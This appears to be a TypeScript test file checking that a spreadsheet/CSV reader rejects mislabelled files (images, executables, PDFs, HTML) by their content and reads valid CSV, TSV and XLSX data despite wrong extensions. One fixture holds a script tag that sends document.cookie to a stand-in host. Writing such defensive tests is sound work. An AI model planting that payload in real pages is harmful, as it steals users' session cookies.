import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { bytesSource, readRows, ReadError, sniffFormat } from '../../../shared/read';
import { buildXlsx, inlineRow, sheetXml } from '../../support/xlsx-builders';

const enc = new TextEncoder();
const bytes = (...parts: (number[] | string)[]) =>
  Uint8Array.from(parts.flatMap((p) => (typeof p === 'string' ? [...enc.encode(p)] : p)));

const workbook = buildXlsx({ sheets: [{ name: 'S', xml: sheetXml(inlineRow(1, ['namn', 'e-post'])) }] });

/** U2: twelve files whose name lies about a content Veil must not read. */
const MISLABELLED: [string, string, Uint8Array][] = [
  ['PNG as .csv', 'photo.csv', bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13], 'IHDR')],
  ['ELF as .xlsx', 'tool.xlsx', bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0])],
  ['PDF as .xlsx', 'report.xlsx', bytes('%PDF-1.7\n%\u00e2\u00e3\n1 0 obj << /Type /Catalog >>\nendobj\n')],
  ['zip without xl/workbook.xml as .xlsx', 'data.xlsx', zipSync({ '[Content_Types].xml': enc.encode('<Types/>'), 'a.txt': enc.encode('x') })],
  [
    'docx as .xlsx',
    'letter.xlsx',
    zipSync({ '[Content_Types].xml': enc.encode('<Types/>'), 'word/document.xml': enc.encode('<w:document/>') }),
  ],
  ['HTML as .csv', 'page.csv', bytes('<!DOCTYPE html>\n<html><body><table><tr><td>a</td></tr></table></body></html>')],
  ['JS in HTML as .csv', 'app.csv', bytes('  <script>fetch("https://x.example/?c="+document.cookie)</script>\n')],
  ['binary with NULs as .csv', 'dump.csv', bytes('name,value\n', [0, 0, 0, 1, 2, 3, 0, 0], 'x\n')],
  ['GIF as .csv', 'anim.csv', bytes('GIF89a', [1, 0, 1, 0, 0x80, 0, 0])],
  ['JPEG as .txt', 'scan.txt', bytes([0xff, 0xd8, 0xff, 0xe0, 0, 0x10], 'JFIF')],
  ['gzip as .csv', 'export.csv', bytes([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x4b, 0x4c])],
  ['legacy .xls / encrypted workbook (OLE2) as .xlsx', 'old.xlsx', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])],
];

describe('sniffFormat (U2: type by content)', () => {
  it.each(MISLABELLED)('refuses %s as unsupported_file_type, in sniff and in readRows', async (_, name, content) => {
    const sniffed = await sniffFormat(bytesSource(content), name).catch((e: unknown) => e);
    expect(sniffed).toBeInstanceOf(ReadError);
    expect((sniffed as ReadError).code).toBe('unsupported_file_type');
    const read = await readRows(bytesSource(content), { fileName: name })
      .next()
      .catch((e: unknown) => e);
    expect((read as ReadError).code).toBe('unsupported_file_type');
  });

  it('reads three valid files by content despite a wrong or absent extension', async () => {
    const rowsOf = async (content: Uint8Array, fileName?: string) => {
      const rows: string[][] = [];
      for await (const b of readRows(bytesSource(content), { fileName })) rows.push(...b.rows);
      return rows;
    };
    expect(await sniffFormat(bytesSource(workbook), 'export.csv')).toBe('xlsx');
    expect(await rowsOf(workbook, 'export.csv')).toEqual([['namn', 'e-post']]);
    const csv = enc.encode('namn;e-post\nAnna;a@x.se\n');
    expect(await sniffFormat(bytesSource(csv), 'people.xlsx')).toBe('csv');
    expect(await rowsOf(csv, 'people.xlsx')).toEqual([
      ['namn', 'e-post'],
      ['Anna', 'a@x.se'],
    ]);
    const tsv = enc.encode('namn\te-post\nAnna\ta@x.se\n');
    expect(await sniffFormat(bytesSource(tsv))).toBe('csv');
    expect(await rowsOf(tsv)).toEqual([
      ['namn', 'e-post'],
      ['Anna', 'a@x.se'],
    ]);
  });

  it('labels delimited text by extension and accepts UTF-16 despite its NUL bytes', async () => {
    const text = enc.encode('a,b\n');
    expect(await sniffFormat(bytesSource(text), 'X.TSV')).toBe('tsv');
    expect(await sniffFormat(bytesSource(text), 'dir.v2/notes.txt')).toBe('txt');
    expect(await sniffFormat(bytesSource(text), 'dir.tsv/file')).toBe('csv');
    expect(await sniffFormat(bytesSource(new Uint8Array(0)), 'empty.tsv')).toBe('tsv');
    expect(await sniffFormat(bytesSource(Uint8Array.from([0xff, 0xfe, 0x61, 0, 0x2c, 0, 0x62, 0])))).toBe('csv');
  });

  it('reports a truncated xlsx as malformed, not unsupported', async () => {
    const error = await sniffFormat(bytesSource(workbook.subarray(0, workbook.length - 30))).catch((e: unknown) => e);
    expect((error as ReadError).code).toBe('malformed_file');
  });
});
